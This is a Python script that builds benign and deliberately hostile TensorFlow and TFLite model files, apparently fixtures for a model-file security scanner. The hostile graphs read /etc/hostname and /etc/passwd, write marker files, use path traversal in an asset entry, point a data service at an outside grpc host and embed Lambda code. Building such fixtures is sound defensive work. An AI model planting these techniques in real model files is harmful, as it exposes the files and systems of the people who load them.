"""Make the real TensorFlow and TFLite files beside this script; run by hand, never by the tests.

Made with tensorflow-cpu 2.21.0, keras 3.15.1, tf_keras 2.21.0, protobuf 7.36.2, Python 3.11:
`python make_tensorflow.py`. The hostile models are only written; with `--prove` they are then loaded and called, each in
a process of its own: those that write leave `/tmp/assaymark-mark`, those that read give out what is in /etc/hostname.
"""

import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import keras
import tensorflow as tf
from tensorflow.core.protobuf import saved_model_pb2

HERE = Path(__file__).parent
OUT = HERE / "tensorflow"
LITE = HERE / "tflite"
KEPT = ("saved_model.pb", "fingerprint.pb", "keras_metadata.pb", "variables", "assets")
MARK = "/tmp/assaymark-mark"


def _keep(folder: Path, name: str) -> None:
    target = OUT / name
    shutil.rmtree(target, ignore_errors=True)
    target.mkdir(parents=True)
    for part in KEPT:
        source = folder / part
        if source.is_dir():
            shutil.copytree(source, target / part)
        elif source.exists():
            shutil.copy(source, target / part)


def _sequential() -> keras.Model:
    layers = keras.layers
    return keras.Sequential(
        [
            keras.Input((8,)),
            layers.Dense(4, activation="relu"),
            layers.Dropout(0.2),
            layers.BatchNormalization(),
            layers.Dense(2, activation="softmax"),
        ]
    )


def _functional() -> keras.Model:
    layers = keras.layers
    tokens = keras.Input((6,), dtype="int32")
    image = keras.Input((8, 8, 1))
    left = layers.GlobalAveragePooling1D()(layers.Embedding(10, 3)(tokens))
    right = layers.Flatten()(layers.MaxPooling2D()(layers.Conv2D(2, 3)(image)))
    return keras.Model([tokens, image], layers.Dense(1)(layers.Concatenate()([left, right])))


class Lookup(tf.Module):
    """A vocabulary in assets, a hash table, strings and a loop: what text models are made of."""

    def __init__(self, vocabulary: str) -> None:
        """Read the table from `vocabulary`."""
        super().__init__()
        self.vocabulary = tf.saved_model.Asset(vocabulary)
        start = tf.lookup.TextFileInitializer(
            self.vocabulary,
            tf.string,
            tf.lookup.TextFileIndex.WHOLE_LINE,
            tf.int64,
            tf.lookup.TextFileIndex.LINE_NUMBER,
        )
        self.table = tf.lookup.StaticHashTable(start, -1)
        self.weight = tf.Variable(tf.ones((4,)))

    @tf.function(input_signature=[tf.TensorSpec([None], tf.string)])
    def __call__(self, text: tf.Tensor) -> dict[str, tf.Tensor]:
        """Sum up the weights of the words."""
        ids = self.table.lookup(tf.strings.lower(text))
        total = tf.zeros(())
        for index in tf.range(3):
            total += tf.gather(self.weight, index)
        tf.debugging.assert_greater(total, 0.0)
        return {"ids": ids, "total": total}


class Dataset(tf.Module):
    """A tf.data pipeline in memory, within a function."""

    @tf.function(input_signature=[tf.TensorSpec([], tf.int64)])
    def __call__(self, count: tf.Tensor) -> tf.Tensor:
        """Sum of squares."""
        data = tf.data.Dataset.range(count).map(lambda x: x * x).filter(lambda x: x % 2 == 0).batch(2)
        return data.reduce(tf.constant(0, tf.int64), lambda state, batch: state + tf.reduce_sum(batch))


def _module(body) -> tf.Module:
    module = tf.Module()
    module.f = tf.function(body, input_signature=[tf.TensorSpec([], tf.float32, name="x")])
    return module


def _reads(x: tf.Tensor) -> dict[str, tf.Tensor]:
    return {"y": x, "leak": tf.io.read_file("/etc/hostname")}


def _writes(x: tf.Tensor) -> tf.Tensor:
    with tf.control_dependencies([tf.io.write_file(MARK, "written by the graph\n")]):
        return tf.identity(x)


def _prints(x: tf.Tensor) -> tf.Tensor:
    tf.print("written by tf.print", output_stream=f"file://{MARK}")
    return x


def _hidden(x: tf.Tensor) -> dict[str, tf.Tensor]:
    data = tf.data.Dataset.from_tensors(tf.constant("/etc/hostname")).map(tf.io.read_file)
    return {"y": x, "leak": data.reduce(tf.constant(""), lambda old, new: old + new)}


def _calls_python(x: tf.Tensor) -> tf.Tensor:
    return tf.ensure_shape(tf.numpy_function(lambda value: value, [x], tf.float32), [])


def _restores(x: tf.Tensor) -> tf.Tensor:
    return (
        x
        + tf.raw_ops.RestoreV2(
            prefix="/srv/models/other", tensor_names=["w"], shape_and_slices=[""], dtypes=[tf.float32]
        )[0]
    )


def _saves(x: tf.Tensor) -> tf.Tensor:
    with tf.control_dependencies(
        [tf.raw_ops.SaveV2(prefix=MARK, tensor_names=["x"], shape_and_slices=[""], tensors=[x])]
    ):
        return tf.identity(x)


def _assembles(x: tf.Tensor) -> dict[str, tf.Tensor]:
    path = tf.strings.join(["/etc/", tf.strings.regex_replace("hostXname", "X", "")])
    return {"y": x, "leak": tf.io.read_file(path)}


def _records(x: tf.Tensor) -> tf.Tensor:
    return x + tf.data.TextLineDataset("/etc/passwd").reduce(0.0, lambda n, _line: n + 1.0)


def _services(x: tf.Tensor) -> tf.Tensor:
    data = tf.data.Dataset.range(3)
    served = data.apply(tf.data.experimental.service.distribute("distributed_epoch", "grpc://198.51.100.7:5000"))
    return x + served.reduce(0.0, lambda n, _row: n + 1.0)


HOSTILE = {
    "reads": _reads, "writes": _writes, "prints": _prints, "hidden": _hidden, "calls_python": _calls_python,
    "restores": _restores, "saves": _saves, "assembles": _assembles, "records": _records, "services": _services,
}  # fmt: skip


def saved_models(scratch: Path) -> None:
    """Benign and hostile SavedModels."""
    sequential, functional = _sequential(), _functional()
    sequential.export(str(scratch / "exported"), verbose=False)
    functional.export(str(scratch / "functional"), verbose=False)
    tf.saved_model.save(sequential, str(scratch / "keras_saved"))
    vocabulary = scratch / "words.txt"
    vocabulary.write_text("one\ntwo\nthree\n")
    tf.saved_model.save(Lookup(str(vocabulary)), str(scratch / "lookup"))
    tf.saved_model.save(Dataset(), str(scratch / "dataset"))
    for name in ("exported", "functional", "keras_saved", "lookup", "dataset"):
        _keep(scratch / name, name)
    for name, body in HOSTILE.items():
        folder = scratch / f"bad_{name}"
        tf.saved_model.save(_module(body), str(folder))
        (OUT / f"bad_{name}.pb").write_bytes((folder / "saved_model.pb").read_bytes())
    _edited(scratch)
    _version_1(scratch)


def _edited(scratch: Path) -> None:
    """What the library does not write by itself: an asset elsewhere, a saver's path that is a constant, a graph in bytes."""
    model = saved_model_pb2.SavedModel()
    model.ParseFromString((scratch / "lookup" / "saved_model.pb").read_bytes())
    model.meta_graphs[0].asset_file_def[0].filename = "../../../../../../../etc/hostname"
    (OUT / "bad_asset.pb").write_bytes(model.SerializeToString())

    model.ParseFromString((scratch / "dataset" / "saved_model.pb").read_bytes())
    nodes = model.meta_graphs[0].graph_def.node
    saver = next(node for node in nodes if node.name == "saver_filename")
    saver.op = "Const"
    saver.attr["value"].tensor.CopyFrom(tf.make_tensor_proto(MARK))
    del saver.attr["shape"]
    (OUT / "bad_saver.pb").write_bytes(model.SerializeToString())

    inner = tf.Graph()
    with inner.as_default():
        data = tf.raw_ops.TextLineDataset(filenames=["/etc/hostname"], compression_type="", buffer_size=0)
        tf.identity(data, name="dataset")
    graph = inner.as_graph_def()
    graph.node[-1].op = "_Retval"
    graph.node[-1].attr["index"].i = 0
    data = graph.SerializeToString()

    def nested(x: tf.Tensor) -> dict[str, tf.Tensor]:
        dataset = tf.raw_ops.DatasetFromGraph(graph_def=data)
        line = tf.raw_ops.DatasetToSingleElement(dataset=dataset, output_types=[tf.string], output_shapes=[[]])
        return {"y": x, "leak": line[0]}

    tf.saved_model.save(_module(nested), str(scratch / "bad_nested"))
    shutil.copy(scratch / "bad_nested" / "saved_model.pb", OUT / "bad_nested.pb")
    _keras_2(scratch)


def _keras_2(scratch: Path) -> None:
    """`keras_metadata.pb` of Keras 2: an honest one, and one whose Lambda layer carries marshalled code."""
    import tf_keras

    for name, last in {
        "keras2": tf_keras.layers.Dense(1),
        "bad_keras2": tf_keras.layers.Lambda(lambda x: x + len(str(__import__("os").getcwd())) * 0.0),
    }.items():
        model = tf_keras.Sequential([tf_keras.layers.Dense(2, input_shape=(4,)), last])
        model.save(str(scratch / name), save_format="tf")
        target = OUT / name
        target.mkdir(exist_ok=True)
        shutil.copy(scratch / name / "keras_metadata.pb", target / "keras_metadata.pb")


def _version_1(scratch: Path) -> None:
    """Graph files of TensorFlow 1: frozen graph, MetaGraph with its checkpoint, text form, V1 SavedModel and checkpoint."""
    v1 = tf.compat.v1
    with tf.Graph().as_default() as graph, v1.Session(graph=graph) as session:
        x = v1.placeholder(tf.float32, (None, 4), name="x")
        weight = v1.get_variable("w", (4, 2), use_resource=True)
        old = v1.get_variable("b", (2,), use_resource=False)
        y = tf.nn.softmax(x @ weight + old, name="y")
        session.run(v1.global_variables_initializer())
        saver = v1.train.Saver()
        saver.save(session, str(scratch / "model.ckpt"))
        v1.train.Saver(write_version=1).save(session, str(scratch / "old.ckpt"), write_meta_graph=False)
        v1.saved_model.simple_save(session, str(scratch / "simple"), {"x": x}, {"y": y})
        frozen = v1.graph_util.convert_variables_to_constants(session, graph.as_graph_def(), ["y"])
    (OUT / "frozen.pb").write_bytes(frozen.SerializeToString())
    v1.train.write_graph(frozen, str(OUT), "frozen.pbtxt")
    for name in ("model.ckpt.meta", "model.ckpt.index", "model.ckpt.data-00000-of-00001", "old.ckpt"):
        shutil.copy(scratch / name, OUT / name)
    _keep(scratch / "simple", "simple_save")
    with tf.Graph().as_default() as graph:
        tf.io.write_file(MARK, "written by a frozen graph\n", name="w")
    (OUT / "bad_frozen.pb").write_bytes(graph.as_graph_def().SerializeToString())
    v1.train.write_graph(graph, str(OUT), "bad_frozen.pbtxt")


def lite(scratch: Path) -> None:
    """TFLite files by the converter."""
    convert = tf.lite.TFLiteConverter
    (LITE / "dense.tflite").write_bytes(convert.from_saved_model(str(scratch / "exported")).convert())
    quantised = convert.from_saved_model(str(scratch / "exported"))
    quantised.optimizations = [tf.lite.Optimize.DEFAULT]
    (LITE / "quantised.tflite").write_bytes(quantised.convert())
    (LITE / "functional.tflite").write_bytes(_with_flex(scratch / "functional"))
    for name, body in {"flex": lambda x: tf.math.lgamma(x) + tf.random.gamma([], x), "bad_writes": _writes}.items():
        tf.saved_model.save(_module(body), str(scratch / f"lite_{name}"))
        (LITE / f"{name}.tflite").write_bytes(_with_flex(scratch / f"lite_{name}"))


def _with_flex(folder: Path) -> bytes:
    converter = tf.lite.TFLiteConverter.from_saved_model(str(folder))
    converter.target_spec.supported_ops = [tf.lite.OpsSet.TFLITE_BUILTINS, tf.lite.OpsSet.SELECT_TF_OPS]
    return converter.convert()


def prove() -> None:
    """Load and call each hostile file; say what it did."""
    for path in sorted(OUT.glob("bad_*.pb")):
        Path(MARK).unlink(missing_ok=True)
        done = subprocess.run(
            [sys.executable, __file__, "--one", str(path)], capture_output=True, text=True, check=False
        )
        host = Path("/etc/hostname").read_text().strip()
        marks = sorted(Path(MARK).parent.glob("assaymark-mark*"))
        print(path.name, "wrote" if marks else "-", "read" if host in done.stdout else "-", done.stderr.strip()[-90:])
        for mark in marks:
            mark.unlink()


def one(path: Path) -> None:
    """Load and call one file, as its user would."""
    if path.name == "bad_frozen.pb":
        graph = tf.compat.v1.GraphDef.FromString(path.read_bytes())
        with tf.Graph().as_default(), tf.compat.v1.Session() as session:
            tf.import_graph_def(graph, name="")
            session.run("w")
        return
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name) / "model"
        source = {"bad_asset.pb": "lookup", "bad_saver.pb": "dataset"}.get(path.name, "dataset")
        shutil.copytree(OUT / source, folder)
        shutil.copy(path, folder / "saved_model.pb")
        if path.name == "bad_saver.pb":
            with tf.Graph().as_default(), tf.compat.v1.Session() as session:
                meta = tf.compat.v1.saved_model.loader.load(session, ["serve"], str(folder))
                session.run(meta.saver_def.save_tensor_name)
            return
        model = tf.saved_model.load(str(folder))
        if path.name == "bad_asset.pb":
            print(model(tf.constant([Path("/etc/hostname").read_text().strip()])))
            print(
                Path("/etc/hostname").read_text()
                if int(model(tf.constant([Path("/etc/hostname").read_text().strip()]))["ids"][0]) == 0
                else ""
            )
            return
        print({k: v.numpy() for k, v in model.signatures["serving_default"](x=tf.constant(1.0)).items()})


if __name__ == "__main__":
    if "--one" in sys.argv:
        one(Path(sys.argv[-1]))
    elif "--prove" in sys.argv:
        prove()
    else:
        OUT.mkdir(exist_ok=True)
        LITE.mkdir(exist_ok=True)
        with tempfile.TemporaryDirectory() as name:
            saved_models(Path(name))
            lite(Path(name))
